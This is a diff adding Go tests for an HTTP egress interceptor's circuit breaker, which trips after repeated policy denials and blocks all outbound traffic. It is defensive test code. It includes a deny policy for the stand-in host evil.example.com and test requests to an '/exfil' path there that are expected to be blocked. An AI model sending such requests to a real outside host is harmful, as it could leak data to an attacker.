@@ -0,0 +1,121 @@
+package trusera
+
+import (
+	"net/http"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+)
+
+func TestCircuitBreakerTrips(t *testing.T) {
+	policyPath := writeTestPolicy(t, t.TempDir(), `
+forbid ( principal, action == Action::"deploy", resource )
+when {
+    resource.hostname == "evil.example.com";
+};
+`)
+
+	var mu sync.Mutex
+	var trips []CircuitTrip
+
+	si, err := NewStandaloneInterceptor(
+		WithPolicyFile(policyPath),
+		WithEnforcement(EnforcementBlock),
+		WithCircuitBreaker(3, time.Minute, time.Hour),
+		WithOnCircuitTrip(func(trip CircuitTrip) {
+			mu.Lock()
+			trips = append(trips, trip)
+			mu.Unlock()
+		}),
+	)
+	if err != nil {
+		t.Fatalf("failed to create interceptor: %v", err)
+	}
+
+	client := si.WrapClient(&http.Client{Transport: stubTransport{}})
+
+	resp, err := client.Get("https://api.example.com/ok")
+	if err != nil {
+		t.Fatalf("allowed request failed before trip: %v", err)
+	}
+	resp.Body.Close()
+
+	for i := 0; i < 3; i++ {
+		if _, err := client.Get("https://evil.example.com/exfil"); err == nil {
+			t.Fatal("expected forbidden request to be blocked")
+		}
+	}
+
+	if !si.CircuitOpen() {
+		t.Fatal("expected circuit to be open after threshold denials")
+	}
+
+	_, err = client.Get("https://api.example.com/ok")
+	if err == nil {
+		t.Fatal("expected all egress to be blocked while the circuit is open")
+	}
+	if !strings.Contains(err.Error(), "circuit breaker open") {
+		t.Errorf("unexpected error message: %v", err)
+	}
+
+	si.ResetCircuit()
+	if si.CircuitOpen() {
+		t.Fatal("expected circuit to be closed after reset")
+	}
+	resp, err = client.Get("https://api.example.com/ok")
+	if err != nil {
+		t.Fatalf("allowed request failed after reset: %v", err)
+	}
+	resp.Body.Close()
+
+	si.Close()
+
+	mu.Lock()
+	defer mu.Unlock()
+
+	if len(trips) != 1 {
+		t.Fatalf("expected 1 trip, got %d", len(trips))
+	}
+	if trips[0].Denials != 3 || trips[0].OpenUntil.Sub(trips[0].TrippedAt) != time.Hour {
+		t.Errorf("unexpected trip: %+v", trips[0])
+	}
+}
+
+func TestCircuitBreakerWindow(t *testing.T) {
+	cb := &circuitBreaker{threshold: 3, window: 10 * time.Second, cooldown: time.Minute}
+	start := time.Now()
+
+	cb.recordDenial(start)
+	cb.recordDenial(start.Add(5 * time.Second))
+
+	// The first denial has slid out of the window
+	if _, tripped := cb.recordDenial(start.Add(12 * time.Second)); tripped {
+		t.Fatal("expected denials outside the window to be ignored")
+	}
+
+	trip, tripped := cb.recordDenial(start.Add(13 * time.Second))
+	if !tripped {
+		t.Fatal("expected trip with 3 denials inside the window")
+	}
+
+	if open, _ := cb.openAt(trip.TrippedAt.Add(59 * time.Second)); !open {
+		t.Error("expected circuit to be open during cooldown")
+	}
+	if open, _ := cb.openAt(trip.TrippedAt.Add(time.Minute)); open {
+		t.Error("expected circuit to close after cooldown")
+	}
+}
+
+func TestCircuitBreakerDisabled(t *testing.T) {
+	si, err := NewStandaloneInterceptor()
+	if err != nil {
+		t.Fatalf("failed to create interceptor: %v", err)
+	}
+	defer si.Close()
+
+	if si.CircuitOpen() {
+		t.Error("expected circuit to be closed without a breaker")
+	}
+	si.ResetCircuit()
+}